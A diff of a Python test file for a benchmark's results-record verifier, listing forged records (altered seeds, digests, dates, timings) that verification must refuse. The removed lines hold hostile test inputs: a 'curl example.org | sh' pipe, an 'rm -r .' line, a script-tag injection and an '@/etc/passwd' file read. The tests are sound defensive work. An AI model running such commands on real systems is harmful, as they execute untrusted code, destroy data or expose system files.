@@ -1,13 +1,12 @@
-"""Every forgery that an audit tried and that can be computed is refused; see also test_retraining.
+"""Every forgery that an audit tried and that can be computed is refused.
 
 Each edits a sound record as somebody would who knows the code: every digest is mended, and what
-follows from the edit is changed with it.
+follows from the edit is changed with it. See also test_verify_contradictions and test_retraining.
 """
 
 from __future__ import annotations
 
 import json
-from collections.abc import Callable
 from pathlib import Path
 
 import numpy as np
@@ -17,12 +16,15 @@ from forging import (
     Forgery,
     as_solver,
     edit,
+    edit_command,
     edit_main,
     edit_spec,
     edit_training,
     find,
     problem_of,
+    proved,
     reseal,
+    seeds_listed,
     solver,
     states_of,
     values_of,
@@ -31,23 +33,6 @@ from forging import (
 )
 
 from iclbench import RecordStore, verify
-
-
-def edit_command(old: str, new: str) -> Forgery:
-    return edit(lambda c: c.update(command=c["command"].replace(old, new)))
-
-
-def edit_curve(change: Callable[[Content], object]) -> Forgery:
-    def forge(folder: Path) -> Path:
-        path = solver(folder, "gradient-descent")
-        return reseal(path, lambda c: change(c["evaluations"]["main"]["curves"]))
-
-    return forge
-
-
-def zero_curve(curves: Content) -> None:
-    for name in ("mean", "median", "max", "low", "high"):
-        curves["prefix_error"][name] = [0.0] * len(curves["prefix_error"][name])
 
 
 def seed_twice(folder: Path) -> Path:
@@ -72,37 +57,6 @@ def other_number(value: object) -> Forgery:
         content["command"] = content["command"].replace("layers=1", f"layers={json.dumps(value)}")
 
     return edit(change)
-
-
-def proved(**fields: object) -> Forgery:
-    """A proof that its author wrote."""
-
-    def change(content: Content) -> None:
-        proof = {"kind": "evaluated", "created": content["created"],
-                 "environment": content["environment"], "plugins": content["plugins"]}  # fmt: skip
-        content["proof"] = {**proof, **fields}
-
-    return edit(change)
-
-
-def seeds_listed(*seeds: int | None) -> Forgery:
-    def change(content: Content) -> None:
-        content["seeds"] = [{"seed": seed, "diverged_at": None} for seed in seeds]
-        main = content["evaluations"]["main"]
-        main["seeds"] = [main["seeds"][0] for _ in seeds]
-
-    return edit(change)
-
-
-def seeds_repeated(folder: Path) -> Path:
-    """Two copies of one seed, in the spec and the command too."""
-
-    def change(content: Content) -> None:
-        content["seeds"] = [{"seed": 0, "diverged_at": None}] * 2
-        content["spec"]["seeds"] = [0, 0]
-        content["command"] = content["command"].replace("--seeds 2", "--seeds 0,0,")
-
-    return reseal(find(folder), change)
 
 
 def thirds_near_the_floor(folder: Path) -> Path:
@@ -133,94 +87,103 @@ def as_constructed(content: Content) -> None:
     content["command"] = content["command"].split(" --recipe")[0] + " --weights gd-causal"
 
 
-REFUSED: dict[str, Forgery] = {
-    "ranking.better": edit(lambda c: c["ranking"].update(better="higher")),
-    "ranking.statistic": edit(lambda c: c["ranking"].update(statistic="mean")),
-    "chance": edit(lambda c: c.update(chance=True)),
-    "title": edit_main(title="least-squares: on photographs"),
-    "ranking.scale": edit(lambda c: c["ranking"].update(scale="linear")),
-    "ranking.metric": edit(lambda c: c["ranking"].update(metric="other")),
-    "a command with a shell line": edit(
-        lambda c: c.update(command=c["command"] + "; curl example.org | sh")
+#: Name → the forgery, and a fact that then does not hold.
+REFUSED: dict[str, tuple[Forgery, str]] = {
+    "ranking.better": (edit(lambda c: c["ranking"].update(better="higher")), "ranking"),
+    "ranking.statistic": (edit(lambda c: c["ranking"].update(statistic="mean")), "ranking"),
+    "chance": (edit(lambda c: c.update(chance=True)), "chance"),
+    "title": (edit_main(title="least-squares: on photographs"), "evaluation title"),
+    "the command of another run": (edit_command(" --recipe smoke", ""), "spec recipe"),
+    "evaluation.task_args": (
+        edit_main(task_args={"dim": 20, "examples": 40}), "evaluation task_args",
     ),
-    "a command on two lines": edit(lambda c: c.update(command=c["command"] + "\nrm -r .")),
-    "a command with Markdown": edit(
-        lambda c: c.update(command=c["command"] + "\n```\n<script>alert(1)</script>\n```bash")
+    "evaluation.prompts": (edit_main(prompts=2048), "evaluation prompts"),
+    "evaluation.seed": (edit_main(seed=7), "evaluation seed"),
+    "evaluation.digest": (edit_main(digest="0" * 64), "evaluation digest"),
+    "evaluation.shift": (edit_main(shift="harder"), "evaluation shift"),
+    "another evaluation": (
+        edit(lambda c: c["evaluations"].update(better=c["evaluations"]["main"])), "shifts",
     ),
-    "a command that reads a file": edit_command("dim=2,examples=4", "@/etc/passwd"),
-    "the command of another run": edit_command(" --recipe smoke", ""),
-    "evaluation.task_args": edit_main(task_args={"dim": 20, "examples": 40}),
-    "evaluation.prompts": edit_main(prompts=2048),
-    "evaluation.seed": edit_main(seed=7),
-    "evaluation.digest": edit_main(digest="0" * 64),
-    "evaluation.shift": edit_main(shift="harder"),
-    "another evaluation": edit(
-        lambda c: c["evaluations"].update(better=c["evaluations"]["main"])
+    "training.steps": (edit_training(steps=1), "training steps"),
+    "the recipe's steps": (
+        edit(lambda c: c["spec"]["recipe_args"].update(steps=10)), "spec recipe_args",
     ),
-    "training.steps": edit_training(steps=1),
-    "the recipe's steps": edit(lambda c: c["spec"]["recipe_args"].update(steps=10)),
-    "the recipe's name": edit_spec(recipe="quick"),
-    "no training": edit(lambda c: c.update(training=None)),
-    "one seed's weights under both": seed_twice,
-    "one seed's weights under both, nearly": seed_nearly_twice,
-    "a whole number with a point": other_number(1.0),
-    "a whole number as a truth value": other_number(True),
-    "a spec's number without a point": edit_spec(perturb=0),
-    "a field of the spec left out": edit(lambda c: c["spec"].pop("checkpoint_digest")),
-    "a field of the spec without a value": edit_spec(budget=None),
-    "a proof of more than was checked": proved(same_bits=True),
-    "a proof of the future": proved(created="2999-01-01T00:00:00+00:00"),
-    "a negative number of threads": edit(lambda c: c["environment"].update(threads=-5)),
-    "a reason for what no record lacks": edit(lambda c: c.update(missing={"tuning": "lost"})),
-    "repeated seeds": seeds_listed(0, 0),
-    "repeated seeds everywhere": seeds_repeated,
-    "invented seeds": seeds_listed(0, 7),
-    "a seed more": seeds_listed(0, 1, 2),
-    "no seeds": seeds_listed(),
-    "seeds without numbers": seeds_listed(None, None),
-    "trained as solver": edit(as_solver),
-    "trained as constructed": edit(as_constructed),
-    "trained as loaded": edit_spec(origin="loaded"),
-    "errors divided by three at the floor": thirds_near_the_floor,
-    "permuted prompts": permuted("baseconv"),
-    "permuted prompts at the floor": permuted("least-squares-qr"),
-    "one prompt's error": one_prompt_better,
-    "curves dropped": edit_curve(lambda curves: curves.clear()),
-    "a curve of zeros": edit_curve(zero_curve),
-    "a curve's axis": edit_curve(lambda curves: curves["prefix_error"].update(axis="step")),
-    "a curve's positions": edit_curve(
-        lambda curves: curves["prefix_error"].update(values=[0, 10, 20, 30, 40])
+    "the recipe's name": (edit_spec(recipe="quick"), "spec recipe"),
+    "no training": (edit(lambda c: c.update(training=None)), "training"),
+    "one seed's weights under both": (seed_twice, "seeds with the weights of another"),
+    "one seed's weights under both, nearly": (
+        seed_nearly_twice, "seeds with the weights of another",
     ),
-    "negative seconds of training": edit_training(seconds=-1.0),
-    "tiny seconds of training": edit_training(seconds=1e-9, steps_per_second=4e10),
-    "seconds that contradict the rate": edit_training(seconds=1e3),
-    "negative seconds of evaluation": edit_main(seconds=-1.0),
-    "tiny seconds of evaluation": edit_main(seconds=1e-9),
-    "a date of the future": edit(lambda c: c.update(created="2999-01-01T00:00:00+00:00")),
-    "a date before the schema": edit(lambda c: c.update(created="2020-01-01T00:00:00+00:00")),
-    "a date that is none": edit(lambda c: c.update(created="yesterday <b>")),
-    "floor.name": edit(lambda c: c["evaluations"]["main"]["floor"].update(name="QR")),
-    "floor.kind": edit(lambda c: c["evaluations"]["main"]["floor"].update(kind="bayes")),
-    "plugins left out": edit(lambda c: c.update(plugins=c["plugins"][:1])),
-    "another distribution": edit(lambda c: c["plugins"][0].update(distribution="other")),
-    "unknown recipe arguments": edit(lambda c: c["spec"]["recipe_args"].update(magic=1)),
-    "unknown recipe arguments in the command": edit_command(
-        "--recipe smoke", "--recipe smoke --recipe-args magic=1"
+    "a whole number with a point": (other_number(1.0), "spec model_args"),
+    "a whole number as a truth value": (other_number(True), "spec model_args"),
+    "a proof of the future": (proved(created="2999-01-01T00:00:00+00:00"), "proof created"),
+    "a reason for what no record lacks": (
+        edit(lambda c: c.update(missing={"tuning": "lost"})), "missing",
     ),
-    "an invented init": edit_spec(init="gd-causal"),
-    "an invented init in the command": edit_command("--recipe", "--init gd-causal --recipe"),
-    "an invented freeze": edit_spec(freeze=["*"]),
-    "an invented checkpoint": edit_spec(checkpoint_digest="0" * 64),
-    "an invented data digest": edit_spec(data_digest="0" * 64),
-    "weights of other content": edit(lambda c: c["weights"].update(sha256="0" * 64)),
-    "parameters": edit(lambda c: c.update(parameters=1)),
-    "another state": edit(lambda c: c.update(state_sizes=[1])),
-    "operations": edit(lambda c: c.update(operations={"forward": 1.0, "training": 1.0})),
-    "a track": edit(lambda c: c.update(track="10m")),
-    "a tuning": edit(lambda c: c.update(tuning={"sha256": "0" * 64, "document": {}})),
-    "a divergence after the end": edit(lambda c: c["seeds"][0].update(diverged_at=99)),
-    "the points of the training curve": edit_training(curve_steps=[7]),
-    "a grader": edit(lambda c: c.update(grader={"name": "pmi"})),
+    "repeated seeds": (seeds_listed(0, 0), "seeds"),
+    "invented seeds": (seeds_listed(0, 7), "seeds"),
+    "seeds without numbers": (seeds_listed(None, None), "seeds"),
+    "trained as solver": (edit(as_solver), "spec origin"),
+    "trained as constructed": (edit(as_constructed), "seeds"),
+    "trained as loaded": (edit_spec(origin="loaded"), "spec origin"),
+    "errors divided by three at the floor": (thirds_near_the_floor, "squared_error mean digits"),
+    "permuted prompts": (permuted("baseconv"), "squared_error in order"),
+    "permuted prompts at the floor": (
+        permuted("least-squares-qr"), "squared_error of every prompt",
+    ),
+    "one prompt's error": (one_prompt_better, "squared_error digits low"),
+    "negative seconds of training": (edit_training(seconds=-1.0), "training seconds"),
+    "tiny seconds of training": (
+        edit_training(seconds=1e-9, steps_per_second=4e10), "training seconds",
+    ),
+    "seconds that contradict the rate": (edit_training(seconds=1e3), "training steps per second"),
+    "negative seconds of evaluation": (edit_main(seconds=-1.0), "evaluation seconds"),
+    "tiny seconds of evaluation": (edit_main(seconds=1e-9), "evaluation seconds"),
+    "a date of the future": (
+        edit(lambda c: c.update(created="2999-01-01T00:00:00+00:00")), "created",
+    ),
+    "a date before the schema": (
+        edit(lambda c: c.update(created="2020-01-01T00:00:00+00:00")), "created",
+    ),
+    "a date that is none": (edit(lambda c: c.update(created="yesterday <b>")), "created"),
+    "floor.name": (
+        edit(lambda c: c["evaluations"]["main"]["floor"].update(name="QR")),
+        "evaluation floor name",
+    ),
+    "floor.kind": (
+        edit(lambda c: c["evaluations"]["main"]["floor"].update(kind="bayes")), "floor kind",
+    ),
+    "plugins left out": (edit(lambda c: c.update(plugins=c["plugins"][:1])), "plugins"),
+    "another distribution": (
+        edit(lambda c: c["plugins"][0].update(distribution="other")), "plugins",
+    ),
+    "unknown recipe arguments": (
+        edit(lambda c: c["spec"]["recipe_args"].update(magic=1)), "spec recipe_args",
+    ),
+    "an invented init": (edit_spec(init="gd-causal"), "spec init"),
+    "an invented init in the command": (
+        edit_command("--recipe", "--init gd-causal --recipe"), "spec init",
+    ),
+    "an invented freeze": (edit_spec(freeze=["*"]), "spec freeze"),
+    "an invented checkpoint": (edit_spec(checkpoint_digest="0" * 64), "spec checkpoint_digest"),
+    "an invented data digest": (edit_spec(data_digest="0" * 64), "spec data_digest"),
+    "parameters": (edit(lambda c: c.update(parameters=1)), "parameters"),
+    "another state": (edit(lambda c: c.update(state_sizes=[1])), "state sizes"),
+    "operations": (
+        edit(lambda c: c.update(operations={"forward": 1.0, "training": 1.0})), "operations",
+    ),
+    "a track": (edit(lambda c: c.update(track="10m")), "track"),
+    "a tuning": (
+        edit(lambda c: c.update(tuning={"sha256": "0" * 64, "document": {}})), "tuning digest",
+    ),
+    "a divergence after the end": (
+        edit(lambda c: c["seeds"][0].update(diverged_at=99)), "diverged at",
+    ),
+    "the points of the training curve": (edit_training(curve_steps=[7]), "training curve steps"),
+    "lost losses without a divergence": (
+        edit_training(curve=[[None, 0.1]]), "losses that are not finite without a divergence",
+    ),
+    "a grader": (edit(lambda c: c.update(grader={"name": "pmi"})), "grader"),
 }  # fmt: skip
 
 
@@ -245,8 +208,8 @@ def test_verifying_reads_no_file_that_a_command_names(records, tmp_path, option,
 
 @pytest.mark.parametrize("name", REFUSED)
 def test_a_forgery_that_can_be_computed_is_refused(records, name):
-    path = REFUSED[name](records)
-    assert problem_of(path, verify)
+    forgery, fact = REFUSED[name]
+    assert fact in {check.name for check in verify(forgery(records)) if not check.holds}
 
 
 def test_all_sound_records_hold(sound):
